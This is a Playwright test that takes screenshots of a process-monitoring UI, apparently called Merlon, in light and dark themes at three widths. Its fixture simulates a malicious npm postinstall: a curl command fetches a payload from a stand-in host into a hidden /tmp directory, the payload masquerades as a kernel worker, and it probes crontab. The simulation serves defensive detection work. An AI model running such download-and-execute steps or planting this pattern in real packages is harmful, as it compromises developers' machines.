/** Pictures of the processes screens in both themes and three widths, kept in test-results/screens. */
import { everythingRunning } from './proc.ts';
import { makeProcess } from './processes.ts';
import { ProcessesPage } from './processes.page.ts';
import { expect, test } from './test.ts';

const SIZES = [
  { name: '1440', width: 1440, height: 900 },
  { name: '1024', width: 1024, height: 720 },
  { name: '390', width: 390, height: 844 },
] as const;

test('the list, a search, a process, one that nobody knows', async ({ feed, world, page }) => {
  test.setTimeout(240_000);
  const processes = new ProcessesPage(page);
  await expect(feed.status).toContainText('Sensing');
  await world.play(...everythingRunning());
  const shell = makeProcess('/usr/bin/bash', undefined, 1000);
  const npm = makeProcess('/usr/bin/npm', shell, 1000);
  await world.play(
    shell.exec('bash', '--login'),
    npm.exec('node', '/usr/bin/npm', 'install', 'color-stream'),
  );
  const sh = makeProcess('/usr/bin/sh', npm, 1000);
  const node = makeProcess('/usr/bin/node', sh, 1000);
  const curl = makeProcess('/usr/bin/curl', node, 1000);
  await world.play(
    sh.exec('sh', '-c', 'node scripts/postinstall.js'),
    node.exec('node', 'scripts/postinstall.js'),
    curl.exec('curl', '-fsSL', '-o', '/tmp/.npm-a41f/kworker', 'https://cdn.pkgmirror.example/u9'),
  );
  const kworker = makeProcess('/tmp/.npm-a41f/kworker', node, 1000);
  await world.play(curl.exit(0), kworker.exec('[kworker/u9:2]'));
  const crontab = makeProcess('/usr/bin/crontab', kworker, 1000);
  await world.play(crontab.exec('crontab', '-l'));
  await world.play(crontab.exit(1 << 8), {
    type: 'exec_failed',
    task: kworker.task,
    error: 2,
    path: '/usr/local/bin/tput',
  });
  await world.play(node.exit(0), sh.exit(0));

  const shoot = async (state: string) => {
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme });
      for (const { name, width, height } of SIZES) {
        await page.setViewportSize({ width, height });
        const path = `test-results/screens/${state}-${name}-${colorScheme}.png`;
        await page.screenshot({ path, animations: 'disabled' });
      }
    }
    await page.setViewportSize({ width: 1440, height: 900 });
  };

  await processes.open();
  await expect(processes.row(/\d %/).first()).toBeVisible();
  await processes.pointElsewhere();
  await shoot('processes-full');
  await processes.search.fill('color-stream');
  await expect(processes.page.getByText(/1 of \d+ processes/)).toBeVisible();
  await processes.select('color-stream');
  await shoot('processes-selected');
  await processes.press('Enter');
  await expect(processes.life('crontab')).toBeVisible();
  await expect(processes.details).toContainText('first seen');
  await processes.page.getByRole('button', { name: /With descendants/ }).click();
  await expect(processes.event('tput')).toBeVisible();
  await shoot('process-full');
  await page.goto(`${new URL(page.url()).origin}/#/process/0123456789-1-1`);
  await expect(page.getByRole('heading', { name: 'Merlon knows no such process' })).toBeVisible();
  await shoot('process-unknown');
});
